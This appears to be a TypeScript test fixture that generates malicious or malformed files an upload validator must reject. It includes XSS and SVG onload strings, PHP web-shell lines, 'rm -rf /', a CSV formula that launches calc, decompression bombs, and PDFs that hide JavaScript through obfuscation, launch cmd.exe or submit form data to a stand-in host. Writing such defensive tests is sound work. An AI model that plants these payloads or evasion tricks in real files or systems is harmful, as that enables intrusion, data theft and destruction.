import { deflateSync, gzipSync } from 'node:zlib'
import { enormousPng, objectStream, pdf, photo, withChunk, withSegment, zip } from './files'

const script = '<script>alert(document.domain)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>`
const megabyte = 1024 * 1024

/** A PDF with a script among its compressed objects; `write` makes their dictionary. */
function hiddenScript(write = (dictionary: string) => dictionary) {
  const { dictionary = '', stream } = objectStream('6 0 << /S /JavaScript /JS (app.alert(1)) >>')
  return { dictionary: write(dictionary), stream }
}

/** The same encoded by a predictor as differences of bytes, so that no name appears in it. */
function codedScript() {
  const plain = Buffer.from('6 0 << /S /JavaScript /JS (app.alert(1)) >>')
  const stream = deflateSync(Buffer.from(plain.map((byte, i) => byte - (plain[i - 1] ?? 0))))
  const parms = `/DecodeParms << /Predictor 2 /Columns ${plain.length} >>`
  return { dictionary: `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${parms}`, stream }
}

/** Files that an application must refuse, by their kind (promise P19). */
export async function badFiles(): Promise<[name: string, file: Buffer][]> {
  const jpeg = await photo('jpeg')
  const png = await photo('png')
  const good = pdf()
  const text = (name: string, content: string): [string, Buffer] => [name, Buffer.from(content)]
  const after = (file: Buffer, more: string | Buffer) => Buffer.concat([file, Buffer.from(more)])
  const before = (file: Buffer, more: string | Buffer) => Buffer.concat([Buffer.from(more), file])
  const withAction = (dictionary: string) => pdf({ catalog: '/OpenAction 5 0 R', objects: [{ dictionary }] })
  return [
    // of another type
    text('nothing.pdf', ''),
    text('drawing.svg', svg),
    text('drawing.svg as png', `<?xml version="1.0"?>${svg}`),
    text('page.html', `<!doctype html>${script}`),
    text('text.pdf', 'Vergi levhası'),
    text('program.php', '<?php system($_GET["c"]);'),
    text('script.sh', '#!/bin/sh\nrm -rf /'),
    text('postscript.ps', '%!PS-Adobe-3.0\n(%stdin) (r) file'),
    text('table.csv', '=cmd|"/c calc"!A1'),
    text('link.url', '[InternetShortcut]\nURL=file:///etc/passwd'),
    ['archive.zip', zip()],
    ['archive.gz', gzipSync('x'.repeat(1000))],
    ['word.docx', zip('[Content_Types].xml')],
    ['word.doc', Buffer.from('d0cf11e0a1b11ae1'.padEnd(1024, '0'), 'hex')],
    ['program.exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from('PE\0\0')])],
    ['program.elf', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(100)])],
    ['animation.gif', await photo('gif')],
    ['picture.webp', await photo('webp')],
    ['picture.avif', await photo('avif')],
    ['picture.tiff', await photo('tiff')],
    ['picture.bmp', Buffer.from(`424d${'00'.repeat(100)}`, 'hex')],
    ['icon.ico', Buffer.from(`00000100${'00'.repeat(100)}`, 'hex')],
    ['noise.jpg', Buffer.from(Array.from({ length: 5_000 }, (_, i) => (i * 7_919) % 256))],
    // damaged, or only the first bytes of the claimed type
    ['jpeg mark alone', Buffer.from('ffd8ff', 'hex')],
    ['jpeg cut in half', jpeg.subarray(0, jpeg.length / 2)],
    ['jpeg with a page behind its mark', Buffer.concat([jpeg.subarray(0, 3), Buffer.from(script)])],
    ['png mark alone', png.subarray(0, 8)],
    ['png cut in half', png.subarray(0, png.length / 2)],
    ['png without its end', png.subarray(0, png.length - 12)],
    ['png mark and noise', Buffer.concat([png.subarray(0, 8), Buffer.alloc(3_000, 7)])],
    text('pdf mark alone', '%PDF-1.7'),
    text('pdf mark and text', '%PDF-1.7\nmerhaba\n%%EOF'),
    ['pdf cut in half', good.subarray(0, good.length / 2)],
    ['pdf without its end', good.subarray(0, good.length - 8)],
    [
      'pdf whose index is elsewhere',
      Buffer.from(good.toString('latin1').replace(/startxref\n\d+/, 'startxref\n3'), 'latin1'),
    ],
    [
      'pdf without a page',
      Buffer.from(good.toString('latin1').replace('/Type /Page ', '/Type /None '), 'latin1'),
    ],
    ['pdf of no known version', pdf({ version: '9.9' })],
    [
      'pdf whose index has another offset by far',
      Buffer.from(good.toString('latin1').replace(/startxref\n\d+/, 'startxref\n99999999'), 'latin1'),
    ],
    // too large, or expanding to something enormous
    ['jpeg of 6 MB', after(jpeg, Buffer.alloc(6 * megabyte))],
    ['pdf of 6 MB', pdf({ objects: [{ dictionary: '', stream: Buffer.alloc(6 * megabyte, 65) }] })],
    ['png of 60000 × 60000', await enormousPng(60_000, 60_000)],
    ['png of 2147483647 × 1', await enormousPng(2_147_483_647, 1)],
    ['png of 9000 × 9000', await enormousPng(9_000, 9_000)],
    [
      'pdf with objects that unfold to 200 MB',
      pdf({
        objects: [
          {
            dictionary: '/Type /ObjStm /Filter /FlateDecode',
            stream: deflateSync(Buffer.alloc(200 * megabyte)),
          },
        ],
      }),
    ],
    [
      'pdf with filters over filters',
      pdf({
        objects: [
          {
            dictionary: '/Filter [/FlateDecode /FlateDecode]',
            stream: deflateSync(deflateSync(Buffer.alloc(megabyte))),
          },
        ],
      }),
    ],
    // two kinds at once
    ['jpeg and page, in a comment', withSegment(jpeg, 0xfe, `<html>${script}</html>`)],
    ['jpeg and drawing, in an APP segment', withSegment(jpeg, 0xe1, svg)],
    ['jpeg and program, in a comment', withSegment(jpeg, 0xfe, '<?php eval($_POST[1]); __halt_compiler();')],
    ['jpeg and archive', after(jpeg, zip())],
    ['jpeg and pdf', after(jpeg, good)],
    ['jpeg and page, behind its end', after(jpeg, script)],
    ['png and page, in a text chunk', withChunk(png, 'tEXt', `Comment\0${script}`)],
    ['png and archive', after(png, zip())],
    ['png and a page behind its end', after(png, script)],
    ['pdf and archive', after(good, zip())],
    ['pdf behind a page', before(good, `<html>${script}</html>`)],
    ['pdf behind a picture mark', before(good, Buffer.from('ffd8ffe0', 'hex'))],
    ['pdf and page', pdf({ comment: `<html>${script}` })],
    // with actions or embedded files
    ['pdf with a script', withAction('/S /JavaScript /JS (app.alert(1))')],
    ['pdf with a script, its name written otherwise', withAction('/S /J#61vaScript /J#53 (app.alert(1))')],
    [
      'pdf with a script among compressed objects',
      pdf({ objects: [objectStream('6 0 << /S /JavaScript /JS (app.alert(1)) >>')] }),
    ],
    [
      'pdf with a script behind a stream that is a string',
      withAction('/X (stream\n) /S /JavaScript /JS (app.alert(1)) /Y (endstream)'),
    ],
    [
      'pdf with a script behind a stream that is a string with a dictionary',
      withAction(
        '/X (<< /Filter /FlateDecode >>\nstream\n) /S /JavaScript /JS (app.alert(1)) /Y (endstream)',
      ),
    ],
    [
      'pdf with compressed objects behind a stream that is a comment',
      pdf({ objects: [{ dictionary: '/X 1\n% << >> stream\n' }, hiddenScript()] }),
    ],
    [
      'pdf with compressed objects, their type written otherwise',
      pdf({ objects: [hiddenScript((dictionary) => dictionary.replace('/ObjStm', '/Obj#53tm'))] }),
    ],
    [
      'pdf with compressed objects without their type',
      pdf({ objects: [hiddenScript((dictionary) => dictionary.replace('/Type /ObjStm', ''))] }),
    ],
    [
      'pdf with compressed objects, behind their type a string',
      pdf({ objects: [hiddenScript((dictionary) => `${dictionary} /X ( obj)`)] }),
    ],
    ['pdf with coded compressed objects', pdf({ objects: [codedScript()] })],
    ['pdf that starts a program', withAction('/S /Launch /F (cmd.exe)')],
    [
      'pdf with a file in it',
      pdf({
        catalog: '/Names << /EmbeddedFiles 5 0 R >>',
        objects: [{ dictionary: '/Type /EmbeddedFile', stream: 'MZ' }],
      }),
    ],
    ['pdf with a form that is a program', pdf({ catalog: '/AcroForm << /XFA 5 0 R >>' })],
    ['pdf that sends what is typed', withAction('/S /SubmitForm /F (https://kotu.example)')],
    ['pdf with a password', pdf({ trailer: '/Encrypt 5 0 R' })],
  ]
}
